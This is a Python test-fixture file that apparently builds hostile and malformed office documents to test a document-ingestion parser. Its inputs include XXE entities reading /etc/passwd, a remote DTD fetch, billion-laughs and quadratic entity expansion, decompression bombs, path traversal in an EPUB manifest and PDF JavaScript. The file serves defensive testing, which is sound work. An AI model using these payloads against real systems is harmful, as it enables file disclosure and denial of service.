"""PDF, Word and other office files that are hostile or broken."""

from __future__ import annotations

import io
import zipfile
import zlib

from tests.hostile.fault import LINE, Fault
from tests.ingest.make import archive, pdf, word
from tests.ingest.office.test_epub import epub
from tests.ingest.office.test_odt import flat, odt

LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
XXE = b'<!DOCTYPE html [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'
CHAPTER = "OEBPS/text/one.xhtml"
QUADRATIC = f'<!ENTITY a "{"ha" * 50_000}">'


def changed(data: bytes, member: str, change: dict[bytes, bytes]) -> bytes:
    """A zip file in which one member is written differently."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as good, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
        for name in good.namelist():
            content = good.read(name)
            if name == member:
                for old, new in change.items():
                    content = content.replace(old, new, 1)
            bad.writestr(name, content)
    return out.getvalue()


def with_entity(entity: str, use: str) -> bytes:
    doctype = f"?><!DOCTYPE x [{entity}]>".encode()
    return changed(word(["Title of the report", "MARK"]), "word/document.xml", {b"?>": doctype, b"MARK": use.encode()})


def odt_with(entity: str, use: str) -> bytes:
    return changed(odt(), "content.xml", {b"?>": f"?><!DOCTYPE x [{entity}]>".encode(), b"First point": use.encode()})


def deep_word() -> bytes:
    """Tables in tables."""
    cell, end = b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"
    return changed(word(["Title of the report", "text"]), "word/document.xml", {b"<w:sectPr": cell * 3000 + end * 3000 + b"<w:sectPr"})


def broken_pdf(old: bytes, new: bytes) -> bytes:
    return pdf([LINE]).replace(old, new)


def pdf_bomb() -> bytes:
    """A page whose content inflates to forty million bytes."""
    stream = zlib.compress(b"BT /F1 9 Tf (A) Tj ET " * 2_000_000, 1)
    data = pdf([LINE])
    at = data.index(b"<</Length")
    return data[:at] + b"<</Filter/FlateDecode/Length %d>>\nstream\n" % len(stream) + stream + b"\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def pdf_filters() -> bytes:
    """A stream packed in itself many times over."""
    data = pdf([LINE])
    at = data.index(b"<</Length")
    stream = b"\0" * 1_000_000
    for _ in range(20):
        stream = zlib.compress(stream)
    filters = b"/FlateDecode " * 20
    return data[:at] + b"<</Filter[" + filters + b"]/Length %d>>\nstream\n" % len(stream) + stream + b"\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def deep_pages(depth: int = 20_000) -> bytes:
    """A tree of pages each of which holds the next."""
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, 2)
    out.write(b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n")
    for number in range(2, depth):
        out.write(b"%d 0 obj\n<</Type/Pages/Count 1/Kids[%d 0 R]>>\nendobj\n" % (number, number + 1))
    out.write(b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%%%EOF\n" % depth)
    return out.getvalue()


def many_pages() -> bytes:
    """One page, named three and a half thousand times."""
    return broken_pdf(b"/Count 1/Kids[5 0 R]", b"/Count 3500/Kids[" + b"5 0 R " * 3500 + b"]")


ENCRYPTED = f"/Encrypt<</Filter/Standard/V 1/R 2/P -44/O<{'41' * 32}>/U<{'42' * 32}>>>/ID[<{'43' * 16}><{'43' * 16}>]"

FILES: dict[str, Fault] = {
    "empty.pdf": Fault(lambda: b"", "the file is empty"),
    "text_named.pdf": Fault(lambda: b"The envoy left Halden on Sunday.\n", "the file is not a PDF"),
    "truncated.pdf": Fault(lambda: pdf([LINE])[:300], "damaged or cut off"),
    "only_a_head.pdf": Fault(lambda: b"%PDF-1.7\n", "damaged or cut off"),
    "password.pdf": Fault(lambda: pdf([LINE], trailer=ENCRYPTED), "encrypted"),
    "scan.pdf": Fault(lambda: pdf([[]]), "no text layer"),
    "cyclic_pages.pdf": Fault(lambda: broken_pdf(b"/Kids[5 0 R]", b"/Kids[2 0 R]"), "PDF"),
    "page_is_its_own_content.pdf": Fault(lambda: broken_pdf(b"/Contents 6 0 R", b"/Contents 5 0 R"), "no text layer"),
    "length_is_itself.pdf": Fault(lambda: pdf([LINE]).replace(b"<</Length ", b"<</Length 6 0 R/Was ", 1), None, 1),
    "cyclic_xref.pdf": Fault(lambda: pdf([LINE], trailer="/Prev 9"), None, 1),
    "negative_length.pdf": Fault(lambda: pdf([LINE]).replace(b"<</Length ", b"<</Length -", 1), None, 1),
    "inflates_to_forty_megabytes.pdf": Fault(pdf_bomb, "broke the process that read it"),
    "packed_in_itself.pdf": Fault(pdf_filters, "no text layer"),
    "deep_tree_of_pages.pdf": Fault(deep_pages, "PDF"),
    "thousands_of_pages.pdf": Fault(many_pages, "pages"),
    "runs_a_script.pdf": Fault(lambda: broken_pdf(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), None, 1),
    "truncated.docx": Fault(lambda: word(["A report that is cut off"])[:2000], "damaged"),
    "old_or_encrypted.docx": Fault(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "encrypted or in the old format"),
    "external_entity.docx": Fault(lambda: with_entity('<!ENTITY leak SYSTEM "file:///etc/passwd">', "&leak;"), None, 1),
    "external_entity_from_the_network.docx": Fault(lambda: with_entity('<!ENTITY % leak SYSTEM "http://192.0.2.1/x.dtd"> %leak;', ""), None, 1),
    "billion_laughs.docx": Fault(lambda: with_entity(LAUGHS, "&a11;"), "damaged"),
    "quadratic_entities.docx": Fault(lambda: with_entity(QUADRATIC, "&a;" * 20_000), "damaged"),
    "tables_in_tables.docx": Fault(deep_word, "damaged"),
    "bomb.docx": Fault(lambda: archive({"[Content_Types].xml": b"<x/>", "word/document.xml": b" " * 60_000_000}), "implausible size"),
    "external_entity.odt": Fault(lambda: odt_with('<!ENTITY leak SYSTEM "file:///etc/passwd">', "&leak;"), None, 1),
    "billion_laughs.odt": Fault(lambda: odt_with(LAUGHS, "&a11;"), "damaged"),
    "billion_laughs.fodt": Fault(lambda: flat().replace(b"?>", f"?><!DOCTYPE x [{LAUGHS}]>".encode(), 1).replace(b"First point", b"&a11;"), "damaged"),
    "encrypted.odt": Fault(lambda: odt(b'<manifest xmlns:manifest="urn:m"><manifest:encryption-data/></manifest>'), "encrypted"),
    "bomb.odt": Fault(lambda: changed(odt(), "content.xml", {b"First point": b"0" * 60_000_000}), "OpenDocument"),
    "truncated.odt": Fault(lambda: odt()[:900], "damaged"),
    "external_entity.epub": Fault(lambda: changed(epub(), CHAPTER, {b"?>": b"?>" + XXE, b"The envoy": b"&leak; The envoy"}), None, 1),
    "chapter_outside.epub": Fault(lambda: changed(epub(), "OEBPS/book.opf", {b"text/one.xhtml": b"../../../../etc/passwd"}), None, 1),
    "bomb.epub": Fault(lambda: changed(epub(), CHAPTER, {b"The envoy": b"0" * 60_000_000}), "implausible size"),
    "truncated.epub": Fault(lambda: epub()[:900], "damaged"),
    "deep_groups.rtf": Fault(lambda: b"{\\rtf1 " + b"{" * 300_000 + LINE[0][3].encode(), None, 1),
    "unclosed_notes.rtf": Fault(lambda: b"{\\rtf1 " + LINE[0][3].encode() + b"{\\footnote " * 20_000, None, 1),
    "says_four_gigabytes_follow.rtf": Fault(lambda: b"{\\rtf1 " + LINE[0][3].encode() + b"{\\pict\\bin4294967295 x}}", None, 1),
    "numbers_of_no_character.rtf": Fault(lambda: b"{\\rtf1 " + LINE[0][3].encode() + b"\\u99999999999? \\u-99999? \\'zz}", None, 1),
    "no_parts.docx": Fault(lambda: archive({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), "damaged"),
}
